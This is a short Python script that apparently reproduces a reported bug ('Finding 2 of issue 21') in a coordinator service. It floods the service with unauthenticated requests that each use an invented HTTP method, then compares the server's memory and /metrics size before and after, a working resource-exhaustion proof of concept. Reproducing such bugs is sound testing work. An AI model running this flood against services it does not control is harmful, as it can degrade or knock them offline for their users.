#!/usr/bin/env python3
# Finding 2 of issue 21: N requests, each with a new HTTP method and no
# credential, against a running coordinator; prints its RSS and /metrics size
# before and after (docs/coordinator.md). Usage:
#   coord-junk-flood.py HOST PORT N PID https CA.pem OPERATOR.pem OPERATOR.key
#   coord-junk-flood.py HOST PORT N PID http        (a coordinator run with --insecure-no-auth)
import socket, ssl, sys, os, re, time
host, port, n, pid, scheme = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
ca = sys.argv[6] if len(sys.argv) > 6 else None
opcert = sys.argv[7:9] if len(sys.argv) > 8 else None
token = os.environ.get("TOKEN")
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1]) // 1024
def conn(cert=None):
    s = socket.create_connection((host, port))
    if scheme == "https":
        c = ssl.create_default_context(cafile=ca)
        if cert: c.load_cert_chain(cert[0], cert[1])
        s = c.wrap_socket(s, server_hostname=host)
    return s
def metrics_size():
    s = conn(opcert)
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    s.sendall(f"GET /metrics HTTP/1.1\r\nHost: x\r\n{auth}Connection: close\r\n\r\n".encode())
    data = b""
    while True:
        b = s.recv(1 << 20)
        if not b: break
        data += b
    return len(data)
print(f"before: rss {rss()} MB, /metrics {metrics_size()} bytes")
t = time.time(); i = 0
while i < n:
    s = conn()
    batch = min(500, n - i)
    s.sendall(b"".join(f"JUNK{i+k} /v1/x{i+k} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode() for k in range(batch)))
    got = 0; buf = b""
    s.settimeout(20)
    try:
        while got < batch:
            b = s.recv(1 << 16)
            if not b: break
            got += b.count(b"HTTP/1.1 4")
    except Exception: pass
    s.close(); i += batch
print(f"after {n} junk requests ({time.time()-t:.0f} s): rss {rss()} MB, /metrics {metrics_size()} bytes")
